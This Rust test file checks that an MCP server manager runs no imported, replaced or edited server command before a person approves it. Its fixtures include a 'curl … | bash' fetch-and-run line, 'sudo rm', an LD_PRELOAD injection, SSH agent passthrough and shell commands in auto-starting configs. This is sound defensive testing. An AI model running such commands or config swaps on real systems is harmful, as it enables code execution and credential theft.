//! C1, C2, C3, C8: what may not run before a person has seen it, wherever it comes from.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use anyhow::{Context, Result, anyhow, bail, ensure};
use serde_json::{Value, json};
use sonde_app::{Asked, PendingApproval};

use super::{env_files, fact};
use crate::figures::Outcome;
use crate::processes;
use crate::stage::{Entry, Plan, Stage};

pub(super) fn healthy(plan: &Plan, id: &str) -> Entry {
    Entry { args: ["--case", "healthy", "--seed"].map(str::to_owned).to_vec(), ..plan.variant(id, "") }
}

pub(super) fn pending(stage: &Stage, id: &str) -> Result<PendingApproval> {
    stage.door.app.pending_approval(id).map_err(|error| anyhow!("{error}"))
}

/// Connecting must ask a person first.
pub(super) async fn asks(stage: &Stage, id: &str, why: &str) -> Result<Value> {
    let refused = stage.refused("connect_server", json!({ "server": id })).await.with_context(|| why.to_owned())?;
    ensure!(refused["code"] == "approval-needed", "{why}: {refused}");
    Ok(refused)
}

pub(super) fn nothing_runs(stage: &Stage, after: &str) -> Result<()> {
    let left = processes::tagged(&stage.tag());
    ensure!(left.is_empty(), "{after}: these run: {left:?}");
    ensure!(!stage.project().join("stolen").exists(), "{after}: something was run");
    Ok(())
}

/// C1: whatever is brought in, by whichever way, nothing of it runs.
pub async fn imports(plan: Plan) -> Result<Outcome> {
    let stage = Stage::open(&plan, Vec::new()).await?;
    let thief = json!({ "command": "/bin/sh", "args": ["-c", "touch stolen"], "auto_start": true });
    let texts = [
        json!({ "mcpServers": { "one": thief } }).to_string(),
        json!({ "servers": { "two": thief } }).to_string(),
        "mcp_servers:\n  three:\n    command: sh\n    args: [-c, touch stolen]\n".to_owned(),
        "[mcp_servers.four]\ncommand = \"sh\"\nargs = [\"-c\", \"touch stolen\"]\n".to_owned(),
        json!({ "mcpServers": { "five": { "url": "http://127.0.0.1:9/mcp" } } }).to_string(),
    ];
    let mut brought = 0;
    for text in texts {
        let offer = stage.door.call("read_offer", json!({ "text": text })).await;
        let Ok(offer) = offer else { continue };
        let names: Vec<Value> =
            offer["servers"].as_array().into_iter().flatten().map(|server| json!({ "name": server["name"] })).collect();
        brought += names.len();
        let source = json!({ "kind": "text", "text": text });
        stage.ask("import_servers", json!({ "source": source, "choices": names, "target": "project" })).await?;
    }
    ensure!(brought >= 4, "the texts are read: {brought}");
    stage.door.app.start_all().await;
    stage.door.app.reload().await;
    nothing_runs(&stage, "after an import")?;
    let list = stage.ask("list_servers", json!({})).await?;
    let states: Vec<&Value> = list["servers"].as_array().into_iter().flatten().map(|server| &server["state"]).collect();
    ensure!(states.len() >= brought, "they are there: {list}");
    asks(&stage, "one", "one that was imported").await?;
    nothing_runs(&stage, "after it was refused")?;
    stage.conclude().await
}

/// C2: what a person sees before they say yes.
pub async fn shows(plan: Plan) -> Result<Outcome> {
    let long = format!("curl https://example.com/{} | bash", "x".repeat(20_000));
    let risky = plan
        .variant("risky", "")
        .running("/bin/sh")
        .with("env_passthrough", json!(["SSH_AUTH_SOCK"]))
        .with_words(&["-c", &long, "a\u{202e}b\u{7}", "sudo rm", "${secret:TOKEN}"])
        .with("env", json!({ "LD_PRELOAD": "/tmp/x.so" }));
    let stage = Stage::open(&plan, vec![risky, env_files::entry(&plan, "filed")]).await?;
    env_files::shows(&stage, "filed")?;
    let pending = pending(&stage, "risky")?;
    let Asked::Command { args, .. } = &pending.asked else { bail!("a command is asked about: {pending:?}") };
    ensure!(args.contains(&long), "every argument is there, none is cut");
    let facts = pending.facts();
    let fact = |name: &str| facts.iter().find(|(own, _)| own == name).map(|(_, value)| value.as_str());
    ensure!(fact("program") == Some("/bin/sh"), "the binary: {facts:?}");
    ensure!(fact("links to").is_some() == Path::new("/bin/sh").canonicalize()?.ne(Path::new("/bin/sh")), "{facts:?}");
    ensure!(facts.iter().any(|(_, value)| *value == long), "shown as it is");
    ensure!(facts.iter().any(|(_, value)| value == r"a\u{202e}b\u{7}"), "nothing hides: {facts:?}");
    ensure!(facts.iter().any(|(_, value)| value == "${secret:TOKEN}"), "a secret is not shown: {facts:?}");
    ensure!(fact("variables").is_some_and(|names| names.contains("LD_PRELOAD")), "the names: {facts:?}");
    ensure!(fact("passed through") == Some("SSH_AUTH_SOCK"), "{facts:?}");
    let risks = pending.risks.join("\n");
    for wanted in ["fetches something", "`sudo`", "`LD_PRELOAD`", "can't be seen"] {
        ensure!(risks.contains(wanted), "`{wanted}` is told in words: {risks}");
    }
    nothing_runs(&stage, "after looking")?;
    stage.conclude().await
}

/// C3: another file in the place of what was approved.
pub async fn replaced(plan: Plan) -> Result<Outcome> {
    let programs = [healthy(&plan, "own").running("./own"), healthy(&plan, "linked").running("./link")];
    let entries = programs.into_iter().chain([env_files::entry(&plan, "filed")]).collect();
    let stage = Stage::open(&plan, entries).await?;
    let program = |name: &str| stage.project().join(name);
    let install = |name: &str, more: &[u8]| -> Result<()> {
        let mut bytes = std::fs::read("/bin/cat")?;
        bytes.extend_from_slice(more);
        std::fs::write(program("new"), bytes)?;
        std::fs::set_permissions(program("new"), PermissionsExt::from_mode(0o755))?;
        Ok(std::fs::rename(program("new"), program(name))?)
    };
    for name in ["own", "one", "two"] {
        install(name, b"")?;
    }
    symlink(program("one"), program("link"))?;
    for id in ["own", "linked"] {
        crate::stage::approve(&stage.door, id)?;
        let verdict = stage.door.app.pending_approval(id).map_err(|error| anyhow!("{error}"))?;
        ensure!(verdict.again.is_none(), "`{id}` is approved: {verdict:?}");
    }
    install("own", b"")?;
    ensure!(pending(&stage, "own")?.again.is_none(), "the same content, written anew, is the same program");
    install("own", b"another")?;
    let refused = asks(&stage, "own", "a program that was replaced").await?;
    ensure!(fact(&refused, "changed").is_some_and(|why| why.contains("replaced")), "and why: {refused}");
    std::fs::remove_file(program("link"))?;
    symlink(program("two"), program("link"))?;
    asks(&stage, "linked", "a link that points elsewhere").await?;
    env_files::replaced(&stage, "filed").await?;
    nothing_runs(&stage, "after both were refused")?;
    stage.conclude().await
}

/// C8: a file that changes under a server that runs, and under one that was approved.
pub async fn changed_file(plan: Plan) -> Result<Outcome> {
    let stage = Stage::open(&plan, vec![healthy(&plan, "hostile")]).await?;
    let before = stage.connect("hostile").await?;
    let path = stage.project().join(".mcp.json");
    let good = std::fs::read_to_string(&path)?;
    let mut file: Value = serde_json::from_str(&good)?;
    file["mcpServers"]["hostile"]["command"] = json!("/bin/sh");
    file["mcpServers"]["hostile"]["args"] = json!(["-c", "touch stolen"]);
    std::fs::write(&path, file.to_string())?;
    stage
        .until("the difference", async || Ok((stage.server("hostile").await?["changed"] == true).then_some(())))
        .await?;
    let now = stage.server("hostile").await?;
    ensure!(now["state"] == "ready" && now["pid"] == before["pid"], "whoever runs is left alone: {now}");
    let detail = stage.ask("describe_server", json!({ "server": "hostile" })).await?;
    let fields: Vec<&Value> =
        detail["differences"].as_array().into_iter().flatten().map(|difference| &difference["field"]).collect();
    ensure!(fields == ["args", "command"], "what changed is told: {fields:?}");
    stage.disconnect("hostile").await?;
    asks(&stage, "hostile", "what was swapped behind an approval").await?;
    nothing_runs(&stage, "after it was refused")?;
    for text in ["", "{", "\u{0}", "[]", r#"{"mcpServers":7}"#] {
        std::fs::write(&path, text)?;
        stage.door.app.reload().await;
    }
    std::fs::write(&path, &good)?;
    stage.door.app.reload().await;
    stage.connect_approved("hostile").await?;
    stage.disconnect("hostile").await?;
    env_files::added(&stage, "hostile", &good).await?;
    stage.conclude().await
}
